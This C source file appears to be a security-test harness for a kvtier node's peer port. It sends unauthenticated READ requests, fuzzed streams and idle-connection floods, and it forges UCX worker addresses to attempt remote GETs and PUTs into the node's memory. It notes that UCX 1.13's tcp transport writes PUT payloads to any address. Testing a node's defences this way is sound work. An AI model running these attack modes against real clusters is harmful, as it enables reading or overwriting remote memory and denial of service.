/* A remote attacker without the cluster secret, against a node's peer port
 * (tests/security/peer_attacks.sh drives it against a real kvtierd). Each mode says
 * what it got; exit 0 when it got nothing it should not have, 1 when it did (bytes of
 * the node's memory, an answer to a READ), 2 on usage or a setup error of its own.
 *
 *   frames HOST PORT          our frame protocol, no secret: a READ request (RDREQ)
 *                             right after the server's HELLO. Expects the connection
 *                             closed and no byte after the HELLO.
 *   bytes HOST PORT SEED N    issue #21's hostile inputs (64 zero bytes, 16 bytes of
 *                             0xff, a little-endian length 4 and 16 bytes), frames
 *                             with random payloads, then N random streams: one
 *                             connection each, at most 300 ms each.
 *   idle HOST PORT N          opens N connections that send nothing, prints "open N",
 *                             holds them until SIGTERM or stdin's end.
 *   ucx-sockaddr HOST PORT    UCX's client-server connect to PORT (what UCX's
 *                             listener spoke), then active messages 7, 8, 9 (control,
 *                             READ request, READ reply). Expects no answer.
 *   ucx-worker HOST PORT      wires up to the node's worker through UCX's own tcp
 *                             port PORT (an address forged from ours: our uuid
 *                             replaced, our uct tcp port replaced by PORT), sends
 *                             active messages 7, 8, 9 with tokens it made up and a
 *                             software GET (ucp_get_nbx with an rkey of its own) of a
 *                             node address. Expects no answer and no GET completed
 *                             with data. Exit 3: the address could not be forged. */
#include <arpa/inet.h>
#include <dirent.h>
#include <endian.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <netinet/in.h>
#include <netinet/tcp.h>

#include <ucp/api/ucp.h>
#include <uct/api/uct.h>

#include "kvt/tp_frame.h"

static uint64_t now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static uint64_t rnd_s = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
    rnd_s ^= rnd_s << 13;
    rnd_s ^= rnd_s >> 7;
    rnd_s ^= rnd_s << 17;
    return rnd_s;
}

static int tcp_connect(const char *host, uint16_t port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || inet_pton(AF_INET, host, &sa.sin_addr) != 1 ||
        connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    return fd;
}

/* Reads until the peer closes or ms pass; bytes read (into buf up to cap); *closed. */
static size_t drain(int fd, uint8_t *buf, size_t cap, unsigned ms, bool *closed)
{
    uint64_t until = now_ms() + ms;
    size_t got = 0;

    *closed = false;
    for (;;) {
        uint64_t now = now_ms();
        struct pollfd p = {.fd = fd, .events = POLLIN};
        uint8_t tmp[4096];
        ssize_t n;

        if (now >= until || poll(&p, 1, (int)(until - now)) <= 0)
            return got;
        n = recv(fd, tmp, sizeof(tmp), 0);
        if (n <= 0) {
            *closed = true;
            return got;
        }
        if (buf != NULL && got < cap)
            memcpy(buf + got, tmp, (size_t)n < cap - got ? (size_t)n : cap - got);
        got += (size_t)n;
    }
}

/* ---- frames ---- */

static int mode_frames(const char *host, uint16_t port)
{
    uint8_t hello[KVT_TP_FRAME_HDR + KVT_TP_FRAME_HELLO_BYTES], buf[4096];
    uint8_t rd[KVT_TP_FRAME_HDR + KVT_TP_FRAME_RDREQ_BYTES];
    uint64_t p[3] = {htole64(0x7f0000001000ull), htole64(4096), htole64(1)};
    struct kvt_tp_frame_reader *r = malloc(sizeof(*r));
    struct kvt_tp_frame f;
    bool closed;
    size_t got, used;
    int fd = tcp_connect(host, port);

    if (fd < 0 || r == NULL) {
        perror("frames: connect");
        return 2;
    }
    got = drain(fd, hello, sizeof(hello), 300, &closed);
    kvt_tp_frame_reader_init(r, true);
    if (got < sizeof(hello) || kvt_tp_frame_push(r, hello, sizeof(hello), &used, &f) != 1 ||
        f.type != KVT_TP_FRAME_HELLO) {
        printf("frames: no HELLO from the server (%zu bytes)\n", got);
        return 2;
    }
    kvt_tp_frame_hdr(rd, KVT_TP_FRAME_RDREQ, sizeof(p));
    memcpy(rd + KVT_TP_FRAME_HDR, p, sizeof(p));
    if (send(fd, rd, sizeof(rd), MSG_NOSIGNAL) != (ssize_t)sizeof(rd)) {
        perror("frames: send");
        return 2;
    }
    got = drain(fd, buf, sizeof(buf), 3000, &closed);
    printf("frames: READ request before AUTH: %zu bytes back, connection %s\n", got,
           closed ? "closed by the node" : "still open after 3 s");
    close(fd);
    free(r);
    return got == 0 && closed ? 0 : 1;
}

/* ---- bytes ---- */

static void one_stream(const char *host, uint16_t port, const uint8_t *p, size_t n, unsigned *sent,
                       unsigned *failed)
{
    int fd = tcp_connect(host, port);
    bool closed;

    if (fd < 0) {
        (*failed)++;
        return;
    }
    (void)send(fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);
    shutdown(fd, SHUT_WR);
    (void)drain(fd, NULL, 0, 300, &closed);
    close(fd);
    (*sent)++;
}

static int mode_bytes(const char *host, uint16_t port, uint64_t seed, unsigned n)
{
    static uint8_t buf[16 << 10];
    uint8_t zeros[64] = {0}, ff[16], len4[20] = {4, 0, 0, 0};
    unsigned sent = 0, failed = 0;
    uint64_t t0 = now_ms();

    rnd_s ^= seed * 0x2545f4914f6cdd1dull;
    memset(ff, 0xff, sizeof(ff));
    for (int i = 0; i < 16; i++)
        len4[4 + i] = (uint8_t)rnd();
    one_stream(host, port, zeros, sizeof(zeros), &sent, &failed);
    one_stream(host, port, ff, sizeof(ff), &sent, &failed);
    one_stream(host, port, len4, sizeof(len4), &sent, &failed);
    /* Our frames with random payloads: DATA (the handshake decoder), ADDR (stored,
     * never used unauthenticated), RDREQ, a header over every bound. */
    for (unsigned i = 0; i < 64; i++) {
        static const uint8_t types[] = {KVT_TP_FRAME_DATA, KVT_TP_FRAME_ADDR, KVT_TP_FRAME_RDREQ,
                                        KVT_TP_FRAME_HELLO};
        size_t off = 0;

        for (int k = 0; k < 1 + (int)(rnd() % 10) && off < sizeof(buf) - 8200; k++) {
            uint8_t t = types[rnd() % 4];
            uint32_t len = t == KVT_TP_FRAME_RDREQ ? 24 : (uint32_t)(rnd() % 4200);

            if (rnd() % 8 == 0)
                len = (uint32_t)rnd(); /* any length: judged by the header */
            kvt_tp_frame_hdr(buf + off, t, len);
            off += KVT_TP_FRAME_HDR;
            for (uint32_t j = 0; j < len && off < sizeof(buf); j++)
                buf[off++] = (uint8_t)rnd();
        }
        one_stream(host, port, buf, off, &sent, &failed);
    }
    for (unsigned i = 0; i < n; i++) {
        size_t len = 1 + rnd() % sizeof(buf);

        for (size_t j = 0; j < len; j++)
            buf[j] = (uint8_t)rnd();
        one_stream(host, port, buf, len, &sent, &failed);
    }
    printf("bytes: %u streams sent, %u connects failed, %llu ms\n", sent, failed,
           (unsigned long long)(now_ms() - t0));
    return 0;
}

/* ---- idle ---- */

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static int mode_idle(const char *host, uint16_t port, unsigned n)
{
    struct rlimit rl;
    int *fds = calloc(n, sizeof(int));
    unsigned open = 0;

    if (fds == NULL)
        return 2;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < n + 64) {
        rl.rlim_cur = rl.rlim_max < n + 64 ? rl.rlim_max : n + 64;
        (void)setrlimit(RLIMIT_NOFILE, &rl);
    }
    signal(SIGTERM, on_term);
    for (unsigned i = 0; i < n; i++) {
        fds[i] = tcp_connect(host, port);
        open += fds[i] >= 0;
    }
    printf("open %u\n", open);
    fflush(stdout);
    while (!stop) {
        struct pollfd p = {.fd = 0, .events = POLLIN};
        char c;

        if (poll(&p, 1, 200) > 0 && read(0, &c, 1) <= 0)
            break;
    }
    for (unsigned i = 0; i < n; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    free(fds);
    return open > 0 ? 0 : 2;
}

/* ---- UCX ---- */

struct ucx_att {
    ucp_context_h ctx;
    ucp_worker_h worker;
    ucp_ep_h ep;
    unsigned answers; /* active messages that came back */
    size_t answer_bytes;
    int ep_err;
};

static ucs_status_t att_am(void *arg, const void *header, size_t header_length, void *data,
                           size_t length, const ucp_am_recv_param_t *param)
{
    struct ucx_att *a = arg;

    a->answers++;
    a->answer_bytes += header_length + length;
    return UCS_OK;
}

static void att_err(void *arg, ucp_ep_h ep, ucs_status_t status)
{
    ((struct ucx_att *)arg)->ep_err = status;
}

static int att_open(struct ucx_att *a, bool rma)
{
    ucp_config_t *cfg;
    ucp_params_t p = {.field_mask = UCP_PARAM_FIELD_FEATURES,
                      .features = UCP_FEATURE_AM | (rma ? UCP_FEATURE_RMA : 0)};
    ucp_worker_params_t wp = {.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE,
                              .thread_mode = UCS_THREAD_MODE_SINGLE};

    if (ucp_config_read(NULL, NULL, &cfg) != UCS_OK)
        return -1;
    if (ucp_init(&p, cfg, &a->ctx) != UCS_OK)
        return -1;
    ucp_config_release(cfg);
    if (ucp_worker_create(a->ctx, &wp, &a->worker) != UCS_OK)
        return -1;
    for (unsigned id = 7; id <= 9; id++) {
        ucp_am_handler_param_t ap = {
            .field_mask = UCP_AM_HANDLER_PARAM_FIELD_ID | UCP_AM_HANDLER_PARAM_FIELD_CB |
                          UCP_AM_HANDLER_PARAM_FIELD_ARG,
            .id = id,
            .cb = att_am,
            .arg = a,
        };
        if (ucp_worker_set_am_recv_handler(a->worker, &ap) != UCS_OK)
            return -1;
    }
    return 0;
}

static void att_progress(struct ucx_att *a, unsigned ms)
{
    uint64_t until = now_ms() + ms;

    while (now_ms() < until) {
        ucp_worker_progress(a->worker);
        usleep(100);
    }
}

/* Headers shaped like the node's (magic, version 2), tokens made up. */
static void att_send_ams(struct ucx_att *a)
{
    uint8_t hdr[48];
    uint32_t magic = 0x6b767475u;
    uint16_t version = 2;
    ucp_request_param_t rp = {.op_attr_mask = 0};

    for (unsigned id = 7; id <= 9; id++) {
        for (int k = 0; k < 4; k++) {
            memset(hdr, 0, sizeof(hdr));
            memcpy(hdr, &magic, 4);
            memcpy(hdr + 4, &version, 2);
            if (id != 7) {
                uint64_t addr = 0x7f0000001000ull + (uint64_t)k * 4096, len = 4096;

                memcpy(hdr + 8, &addr, 8);
                memcpy(hdr + 16, &len, 8);
            }
            for (int j = 32; j < 48 && k > 0; j++) /* k = 0: the zero token */
                hdr[j] = (uint8_t)rnd();
            ucs_status_ptr_t r = ucp_am_send_nbx(a->ep, id, hdr, id == 7 ? 32 : 48, NULL, 0, &rp);

            if (UCS_PTR_IS_PTR(r)) {
                while (ucp_request_check_status(r) == UCS_INPROGRESS)
                    ucp_worker_progress(a->worker);
                ucp_request_free(r);
            }
        }
    }
}

static int mode_ucx_sockaddr(const char *host, uint16_t port)
{
    struct ucx_att a = {0};
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};

    if (att_open(&a, false) < 0 || inet_pton(AF_INET, host, &sa.sin_addr) != 1)
        return 2;
    ucp_ep_params_t ep = {
        .field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR |
                      UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER,
        .flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER,
        .sockaddr = {.addr = (struct sockaddr *)&sa, .addrlen = sizeof(sa)},
        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
        .err_handler = {.cb = att_err, .arg = &a},
    };
    if (ucp_ep_create(a.worker, &ep, &a.ep) != UCS_OK) {
        printf("ucx-sockaddr: ucp_ep_create failed at once\n");
        return 0;
    }
    att_progress(&a, 500);
    att_send_ams(&a);
    att_progress(&a, 1500);
    printf("ucx-sockaddr: %u answers (%zu bytes); endpoint %s\n", a.answers, a.answer_bytes,
           a.ep_err != 0 ? ucs_status_string((ucs_status_t)a.ep_err) : "no error seen");
    return a.answers == 0 ? 0 : 1;
}

/* Our own uct tcp listening port: a LISTEN socket of this process in /proc/net/tcp. */
static int own_uct_port(void)
{
    char line[512], path[300], link[64];
    unsigned long inodes[64];
    size_t n_in = 0;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    FILE *f;
    int port = -1;

    if (d == NULL)
        return -1;
    while ((e = readdir(d)) != NULL && n_in < 64) {
        ssize_t k;

        snprintf(path, sizeof(path), "/proc/self/fd/%s", e->d_name);
        k = readlink(path, link, sizeof(link) - 1);
        if (k > 0) {
            link[k] = '\0';
            if (sscanf(link, "socket:[%lu]", &inodes[n_in]) == 1)
                n_in++;
        }
    }
    closedir(d);
    f = fopen("/proc/self/net/tcp", "r");
    if (f == NULL)
        return -1;
    while (fgets(line, sizeof(line), f) != NULL) {
        unsigned lport, st;
        unsigned long ino;

        if (sscanf(line, " %*d: %*x:%x %*x:%*x %x %*x:%*x %*x:%*x %*x %*u %*u %lu", &lport, &st,
                   &ino) != 3 ||
            st != 0x0a)
            continue;
        for (size_t i = 0; i < n_in; i++)
            if (inodes[i] == ino)
                port = (int)lport;
    }
    fclose(f);
    return port;
}

static int mode_ucx_worker(const char *host, uint16_t port)
{
    struct ucx_att a = {0};
    ucp_address_t *addr;
    size_t alen, hits = 0, at = 0;
    int own;
    uint16_t own_be, victim_be = htons(port);
    uint8_t *forged;

    (void)host; /* the address names the host: ours is the node's (loopback) */
    if (att_open(&a, true) < 0 || ucp_worker_get_address(a.worker, &addr, &alen) != UCS_OK)
        return 2;
    own = own_uct_port();
    if (own <= 0) {
        printf("ucx-worker: no uct tcp port of our own found\n");
        return 3;
    }
    own_be = htons((uint16_t)own);
    forged = malloc(alen);
    memcpy(forged, addr, alen);
    for (size_t i = 9; i + 1 < alen; i++)
        if (memcmp(forged + i, &own_be, 2) == 0) {
            hits++;
            at = i;
        }
    if (hits != 1 || alen < 9) {
        printf("ucx-worker: our port %d is %zu times in our address: cannot forge\n", own, hits);
        return 3;
    }
    memcpy(forged + at, &victim_be, 2);
    for (int i = 1; i <= 8; i++) /* another uuid: not a loopback to ourselves */
        forged[i] = (uint8_t)rnd();
    ucp_ep_params_t ep = {
        .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                      UCP_EP_PARAM_FIELD_ERR_HANDLER,
        .address = (ucp_address_t *)forged,
        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
        .err_handler = {.cb = att_err, .arg = &a},
    };
    if (ucp_ep_create(a.worker, &ep, &a.ep) != UCS_OK) {
        printf("ucx-worker: ucp_ep_create from the forged address failed\n");
        return 3;
    }
    att_progress(&a, 500);
    att_send_ams(&a);

    /* A software GET of a node address, with an rkey of our own. */
    static uint8_t mine[4096];
    uint8_t got[64];
    ucp_mem_map_params_t mp = {.field_mask =
                                   UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
                               .address = mine,
                               .length = sizeof(mine)};
    ucp_mem_h memh;
    void *rkb;
    size_t rkl;
    ucp_rkey_h rk;
    int get_state = -1; /* -1 not posted, 0 pending, 1 done with data, 2 failed */

    memset(got, 0, sizeof(got));
    if (ucp_mem_map(a.ctx, &mp, &memh) == UCS_OK &&
        ucp_rkey_pack(a.ctx, memh, &rkb, &rkl) == UCS_OK &&
        ucp_ep_rkey_unpack(a.ep, rkb, &rk) == UCS_OK) {
        ucp_request_param_t rp = {.op_attr_mask = 0};
        ucs_status_ptr_t r = ucp_get_nbx(a.ep, got, sizeof(got), 0x400000, rk, &rp);
        uint64_t until = now_ms() + 2000;

        get_state = 0;
        if (r == NULL) {
            get_state = 1;
        } else if (UCS_PTR_IS_ERR(r)) {
            get_state = 2;
        } else {
            while (now_ms() < until && ucp_request_check_status(r) == UCS_INPROGRESS)
                ucp_worker_progress(a.worker);
            ucs_status_t st = ucp_request_check_status(r);

            get_state = st == UCS_INPROGRESS ? 0 : st == UCS_OK ? 1 : 2;
            if (st != UCS_INPROGRESS)
                ucp_request_free(r);
        }
    }
    att_progress(&a, 1000);
    bool got_data = false;

    for (size_t i = 0; i < sizeof(got); i++)
        got_data |= got[i] != 0;
    printf("ucx-worker: wired up to port %u: %u answers (%zu bytes); software GET %s%s; "
           "endpoint %s\n",
           port, a.answers, a.answer_bytes,
           get_state == -1  ? "not posted"
           : get_state == 0 ? "never answered (2 s)"
           : get_state == 1 ? "COMPLETED"
                            : "failed",
           got_data ? " WITH DATA" : "",
           a.ep_err != 0 ? ucs_status_string((ucs_status_t)a.ep_err) : "no error seen");
    /* Leave without closing: UCX's own teardown of a half-wired ep is not ours to
     * test here. */
    fflush(stdout);
    _exit(a.answers == 0 && get_state != 1 && !got_data ? 0 : 1);
}

/* ucx-put HOST PORT ADDR: wired up as ucx-worker, a PUT of 64 bytes ("kvtier-put-probe"
 * repeated) to the node's address ADDR, then a flush. Says whether UCX completed it
 * (the caller looks at the node's memory). */
static int mode_ucx_put(const char *host, uint16_t port, uint64_t raddr)
{
    struct ucx_att a = {0};
    ucp_address_t *addr;
    size_t alen, hits = 0, at = 0;
    int own;
    uint16_t own_be, victim_be = htons(port);
    uint8_t *forged;
    static uint8_t mine[4096];

    (void)host;
    if (att_open(&a, true) < 0 || ucp_worker_get_address(a.worker, &addr, &alen) != UCS_OK)
        return 2;
    own = own_uct_port();
    if (own <= 0)
        return 3;
    own_be = htons((uint16_t)own);
    forged = malloc(alen);
    memcpy(forged, addr, alen);
    for (size_t i = 9; i + 1 < alen; i++)
        if (memcmp(forged + i, &own_be, 2) == 0) {
            hits++;
            at = i;
        }
    if (hits != 1 || alen < 9)
        return 3;
    memcpy(forged + at, &victim_be, 2);
    for (int i = 1; i <= 8; i++)
        forged[i] = (uint8_t)rnd();
    ucp_ep_params_t ep = {
        .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                      UCP_EP_PARAM_FIELD_ERR_HANDLER,
        .address = (ucp_address_t *)forged,
        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
        .err_handler = {.cb = att_err, .arg = &a},
    };
    if (ucp_ep_create(a.worker, &ep, &a.ep) != UCS_OK)
        return 3;
    att_progress(&a, 500);
    for (size_t i = 0; i < sizeof(mine); i++)
        mine[i] = (uint8_t) "kvtier-put-probe"[i % 16];

    ucp_mem_map_params_t mp = {.field_mask =
                                   UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
                               .address = mine,
                               .length = sizeof(mine)};
    ucp_mem_h memh;
    void *rkb;
    size_t rkl;
    ucp_rkey_h rk;
    const char *what = "not posted (no rkey)";

    if (ucp_mem_map(a.ctx, &mp, &memh) == UCS_OK &&
        ucp_rkey_pack(a.ctx, memh, &rkb, &rkl) == UCS_OK &&
        ucp_ep_rkey_unpack(a.ep, rkb, &rk) == UCS_OK) {
        ucp_request_param_t rp = {.op_attr_mask = 0};
        ucs_status_ptr_t r = ucp_put_nbx(a.ep, mine, 64, raddr, rk, &rp);
        uint64_t until = now_ms() + 2000;

        if (UCS_PTR_IS_ERR(r)) {
            what = "failed at once";
        } else {
            while (UCS_PTR_IS_PTR(r) && now_ms() < until &&
                   ucp_request_check_status(r) == UCS_INPROGRESS)
                ucp_worker_progress(a.worker);
            what = r == NULL || ucp_request_check_status(r) == UCS_OK ? "completed"
                   : ucp_request_check_status(r) == UCS_INPROGRESS    ? "pending after 2 s"
                                                                      : "failed";
            ucs_status_ptr_t f = ucp_ep_flush_nbx(a.ep, &rp);

            until = now_ms() + 2000;
            while (UCS_PTR_IS_PTR(f) && now_ms() < until &&
                   ucp_request_check_status(f) == UCS_INPROGRESS)
                ucp_worker_progress(a.worker);
        }
    }
    att_progress(&a, 500);
    printf("ucx-put: PUT of 64 bytes to 0x%llx through UCX's port %u: %s; endpoint %s\n",
           (unsigned long long)raddr, port, what,
           a.ep_err != 0 ? ucs_status_string((ucs_status_t)a.ep_err) : "no error seen");
    fflush(stdout);
    _exit(0);
}

/* uct-put HOST PORT ADDR: UCX's transport layer directly, no UCP: a uct tcp endpoint
 * to UCX's own tcp port of the node (its address: ours on lo, with PORT), and a
 * uct_ep_put_zcopy of 64 bytes ("kvtier-uct-probe" repeated) to the node's address
 * ADDR. UCX 1.13's tcp interface writes a PUT request's payload wherever its header
 * says (uct_tcp_ep_handle_put_req), whatever the UCP features of the worker: the
 * caller looks at the node's memory. */
static int mode_uct_put(const char *host, uint16_t port, uint64_t raddr)
{
    uct_component_h *comps;
    unsigned n_comps;
    uct_md_h md = NULL;
    uct_md_config_t *mdc;
    uct_iface_config_t *ic;
    uct_iface_h iface;
    uct_ep_h ep;
    ucs_async_context_t *async;
    uct_worker_h worker;
    uct_iface_attr_t attr;
    uint8_t dev[256];
    uint16_t iaddr = htons(port);
    static uint8_t buf[64];
    uct_completion_t comp = {.count = 1, .status = UCS_OK};
    ucs_status_t st;

    (void)host;
    for (size_t i = 0; i < sizeof(buf); i++)
        buf[i] = (uint8_t) "kvtier-uct-probe"[i % 16];
    if (uct_query_components(&comps, &n_comps) != UCS_OK)
        return 2;
    for (unsigned i = 0; i < n_comps && md == NULL; i++) {
        uct_component_attr_t ca = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};

        if (uct_component_query(comps[i], &ca) != UCS_OK || strcmp(ca.name, "tcp") != 0)
            continue;
        if (uct_md_config_read(comps[i], NULL, NULL, &mdc) != UCS_OK ||
            uct_md_open(comps[i], "tcp", mdc, &md) != UCS_OK)
            return 2;
    }
    if (md == NULL || ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async) != UCS_OK ||
        uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker) != UCS_OK ||
        uct_md_iface_config_read(md, "tcp", NULL, NULL, &ic) != UCS_OK)
        return 2;
    uct_iface_params_t ip = {
        .field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE |
                      UCT_IFACE_PARAM_FIELD_FEATURES,
        .open_mode = UCT_IFACE_OPEN_MODE_DEVICE,
        .mode.device = {.tl_name = "tcp", .dev_name = "lo"},
        .features = UCT_IFACE_FEATURE_AM | UCT_IFACE_FEATURE_PUT,
    };
    st = uct_iface_open(md, worker, &ip, ic, &iface);
    if (st != UCS_OK || uct_iface_query(iface, &attr) != UCS_OK ||
        attr.device_addr_len > sizeof(dev) ||
        uct_iface_get_device_address(iface, (uct_device_addr_t *)dev) != UCS_OK) {
        printf("uct-put: no uct tcp interface on lo (%s)\n", ucs_status_string(st));
        return 3;
    }
    uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
    uct_ep_params_t ep_p = {
        .field_mask =
            UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR,
        .iface = iface,
        .dev_addr = (const uct_device_addr_t *)dev,
        .iface_addr = (const uct_iface_addr_t *)&iaddr,
    };
    if (uct_ep_create(&ep_p, &ep) != UCS_OK) {
        printf("uct-put: uct_ep_create to port %u failed\n", port);
        return 3;
    }
    uct_iov_t iov = {.buffer = buf, .length = sizeof(buf), .memh = UCT_MEM_HANDLE_NULL, .count = 1};
    uint64_t until = now_ms() + 3000;

    /* NO_RESOURCE until uct tcp's connection handshake is done. */
    while ((st = uct_ep_put_zcopy(ep, &iov, 1, raddr, UCT_INVALID_RKEY, &comp)) ==
               UCS_ERR_NO_RESOURCE &&
           now_ms() < until)
        uct_worker_progress(worker);
    while (st == UCS_INPROGRESS && comp.count > 0 && now_ms() < until)
        uct_worker_progress(worker);
    if (st == UCS_INPROGRESS)
        st = comp.count > 0 ? UCS_INPROGRESS : comp.status;
    /* The PUT is acknowledged once written: a flush says so. */
    uct_completion_t fc = {.count = 1, .status = UCS_OK};
    ucs_status_t fst;

    until = now_ms() + 3000;
    while ((fst = uct_ep_flush(ep, 0, &fc)) == UCS_ERR_NO_RESOURCE && now_ms() < until)
        uct_worker_progress(worker);
    while (fst == UCS_INPROGRESS && fc.count > 0 && now_ms() < until)
        uct_worker_progress(worker);
    if (fst == UCS_INPROGRESS)
        fst = fc.count > 0 ? UCS_INPROGRESS : fc.status;
    printf("uct-put: uct tcp PUT of 64 bytes to 0x%llx through UCX's port %u: put %s, flush %s\n",
           (unsigned long long)raddr, port, ucs_status_string(st), ucs_status_string(fst));
    fflush(stdout);
    _exit(0);
}

int main(int argc, char **argv)
{
    if (argc >= 4 && strcmp(argv[1], "frames") == 0)
        return mode_frames(argv[2], (uint16_t)atoi(argv[3]));
    if (argc >= 6 && strcmp(argv[1], "bytes") == 0)
        return mode_bytes(argv[2], (uint16_t)atoi(argv[3]), strtoull(argv[4], NULL, 0),
                          (unsigned)atoi(argv[5]));
    if (argc >= 5 && strcmp(argv[1], "idle") == 0)
        return mode_idle(argv[2], (uint16_t)atoi(argv[3]), (unsigned)atoi(argv[4]));
    if (argc >= 4 && strcmp(argv[1], "ucx-sockaddr") == 0)
        return mode_ucx_sockaddr(argv[2], (uint16_t)atoi(argv[3]));
    if (argc >= 5 && strcmp(argv[1], "uct-put") == 0)
        return mode_uct_put(argv[2], (uint16_t)atoi(argv[3]), strtoull(argv[4], NULL, 0));
    if (argc >= 5 && strcmp(argv[1], "ucx-put") == 0)
        return mode_ucx_put(argv[2], (uint16_t)atoi(argv[3]), strtoull(argv[4], NULL, 0));
    if (argc >= 4 && strcmp(argv[1], "ucx-worker") == 0)
        return mode_ucx_worker(argv[2], (uint16_t)atoi(argv[3]));
    fprintf(stderr, "usage: peer_attack frames|bytes|idle|ucx-sockaddr|ucx-worker HOST PORT ...\n");
    return 2;
}
